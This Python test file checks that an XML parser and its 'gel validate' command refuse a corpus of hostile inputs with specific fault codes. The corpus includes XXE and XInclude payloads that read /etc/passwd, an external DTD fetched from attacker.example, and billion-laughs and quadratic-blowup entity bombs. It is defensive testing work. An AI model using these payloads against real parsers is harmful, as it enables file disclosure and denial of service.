"""The hostile-input corpus of the foundation: every document is refused with its own code, in well
under a second, by the library and by `gel validate` alike, with no traceback."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest

from broker.gelxml import FaultCode, GelFault, ParseLimits, parse_untrusted

MB = 1_048_576

CORPUS: dict[str, tuple[bytes, FaultCode]] = {
    "xxe-local-file": (
        b'<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<m>&x;</m>',
        FaultCode.PARSE_DTD,
    ),
    "billion-laughs": (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
            for i in range(1, 10)
        )
        + b"]>\n<lolz>&lol9;</lolz>",
        FaultCode.PARSE_DTD,
    ),
    "external-dtd": (
        b'<?xml version="1.0"?>\n<!DOCTYPE mensaje SYSTEM "http://attacker.example/evil.dtd">\n<mensaje/>',
        FaultCode.PARSE_DTD,
    ),
    "quadratic-blowup": (
        b'<?xml version="1.0"?>\n<!DOCTYPE k [<!ENTITY a "' + b"A" * 50_000 + b'">]>\n<k>'
        + b"&a;" * 20_000 + b"</k>",
        FaultCode.PARSE_DTD,
    ),
    "ten-mb-text-node": (b"<m>" + b"A" * (10 * MB) + b"</m>", FaultCode.PARSE_TOO_LARGE),
    "nesting-10000-deep": (b"<a>" * 10_000 + b"</a>" * 10_000, FaultCode.PARSE_TOO_DEEP),
    "nesting-just-over-limit": (b"<a>" * 65 + b"</a>" * 65, FaultCode.PARSE_TOO_DEEP),
    "utf16-without-declaration": ("<mensaje>hola</mensaje>".encode("utf-16-le"), FaultCode.PARSE_ENCODING),
    "utf16-with-bom": ("<mensaje>hola</mensaje>".encode("utf-16"), FaultCode.PARSE_ENCODING),
    "latin1-declared": (
        '<?xml version="1.0" encoding="ISO-8859-1"?><m>año</m>'.encode("latin-1"),
        FaultCode.PARSE_ENCODING,
    ),
    "invalid-utf8": (b"<m>\xc3\x28</m>", FaultCode.PARSE_ENCODING),
    "truncated": (b'<?xml version="1.0"?>\n<mensaje><encabezado><idMensaje>12', FaultCode.PARSE_MALFORMED),
    "empty": (b"", FaultCode.PARSE_EMPTY),
    "whitespace-only": (b"  \n\t ", FaultCode.PARSE_EMPTY),
    "binary-garbage": (bytes(range(256)) * 64, FaultCode.PARSE_ENCODING),
    "text-not-xml": (b"hola, esto no es XML", FaultCode.PARSE_MALFORMED),
    "xinclude": (
        b'<m xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></m>',
        FaultCode.PARSE_XINCLUDE,
    ),
}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_input_is_refused_with_its_code_quickly(name: str) -> None:
    data, expected = CORPUS[name]
    started = time.perf_counter()
    with pytest.raises(GelFault) as caught:
        parse_untrusted(data)
    elapsed = time.perf_counter() - started
    assert caught.value.falla.code == expected
    assert caught.value.falla.message
    assert elapsed < 1.0, f"{name} took {elapsed:.2f}s"


def test_entities_are_never_expanded_even_below_the_byte_checks() -> None:
    with pytest.raises(GelFault) as caught:
        parse_untrusted(b'<!DOCTYPE m [<!ENTITY x "boom">]><m>&x;</m>', ParseLimits(max_bytes=100))
    assert caught.value.falla.code == FaultCode.PARSE_DTD


def test_fault_points_at_the_offending_line() -> None:
    data = b'<?xml version="1.0"?>\n<m>\n<!DOCTYPE x>\n</m>'
    with pytest.raises(GelFault) as caught:
        parse_untrusted(data)
    assert caught.value.falla.location is not None
    assert caught.value.falla.location.line == 3


def test_gel_validate_answers_every_hostile_file_with_a_coded_line(tmp_path: Path) -> None:
    files = []
    for name, (data, _) in CORPUS.items():
        path = tmp_path / f"{name}.xml"
        path.write_bytes(data)
        files.append(path)
    started = time.perf_counter()
    result = subprocess.run(
        [sys.executable, "-m", "broker.cli", "validate", *map(str, files)],
        capture_output=True, text=True, timeout=60,
    )
    elapsed = time.perf_counter() - started
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stdout.strip().splitlines()
    for name, (_, expected) in CORPUS.items():
        matching = [line for line in lines if line.startswith(str(tmp_path / f"{name}.xml") + ":")]
        assert len(matching) == 1, (name, lines)
        assert f": {expected} " in matching[0]
    assert elapsed < len(CORPUS) + 5
